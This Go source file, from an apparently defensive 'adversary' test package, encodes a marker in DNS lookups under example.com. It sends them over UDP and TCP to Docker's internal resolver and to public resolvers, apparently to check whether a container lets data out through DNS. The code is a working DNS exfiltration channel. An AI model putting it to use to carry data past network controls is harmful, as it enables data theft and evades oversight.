package adversary

import (
	"encoding/binary"
	"net/netip"
	"strings"

	"golang.org/x/sys/unix"
)

// lookups is how often a name is asked for that nobody answers.
const lookups = 3

// question asks for the address of a name, whose first label is the mark.
func (a *attempt) question() []byte {
	b := []byte{byte(a.Number), 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(a.Text()+".example.com", ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

// names carry the message in a name that is looked up.
func names() []Technique {
	resolver := netip.MustParseAddrPort("127.0.0.11:53")
	servers := map[string]netip.AddrPort{
		"of docker": netip.MustParseAddrPort("203.0.113.53:53"),
		"public":    netip.MustParseAddrPort("8.8.8.8:53"),
		"public 6":  netip.MustParseAddrPort("[2606:4700:4700::1111]:53"),
	}
	all := []Technique{
		{Name: "dns resolver udp", Family: "4", How: "a name, asked of 127.0.0.11", Phase: PhaseMany, run: func(a *attempt) error {
			return a.look(resolver, unix.SOCK_DGRAM)
		}},
		{Name: "dns resolver tcp", Family: "4", How: "a name, asked of 127.0.0.11 over TCP", Phase: PhaseMany, run: func(a *attempt) error {
			return a.look(resolver, unix.SOCK_STREAM)
		}},
	}
	for _, who := range []string{"of docker", "public", "public 6"} {
		server := servers[who]
		family := "4"
		if server.Addr().Is6() {
			family = "6"
		}
		who = strings.TrimSuffix(who, " 6")
		all = append(all,
			Technique{Name: "dns " + who + " udp", Family: family, How: "a name, asked of " + server.String(), Phase: PhaseMany, run: func(a *attempt) error {
				return a.look(server, unix.SOCK_DGRAM)
			}},
			Technique{Name: "dns " + who + " tcp", Family: family, How: "a name, asked of " + server.String() + " over TCP", Phase: PhaseMany, run: func(a *attempt) error {
				return a.look(server, unix.SOCK_STREAM)
			}})
	}
	return all
}

// look asks until there is an answer, a few times: a resolver on a busy machine
// may lack the time to ask on.
func (a *attempt) look(server netip.AddrPort, kind int) error {
	for range lookups {
		if answered, err := a.lookOnce(server, kind); answered || err != nil {
			return err
		}
	}
	return nil
}

// lookOnce tells whether an answer came, other than that the server failed.
func (a *attempt) lookOnce(server netip.AddrPort, kind int) (answered bool, err error) {
	const length, flags, codes, failed = 2, 3, 0xf, 2
	err = socket(domain(server.Addr()), kind, 0, func(fd int) error {
		if err := connect(fd, server); err != nil {
			return err
		}
		q, code := a.question(), flags
		if kind == unix.SOCK_STREAM {
			q, code = append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...), length+flags
		}
		if _, err := unix.Write(fd, q); err != nil {
			return step("send", err)
		}
		answer := make([]byte, 512)
		n, err := unix.Read(fd, answer)
		answered = err == nil && n > code && answer[code]&codes != failed
		return nil
	})
	return answered, err
}
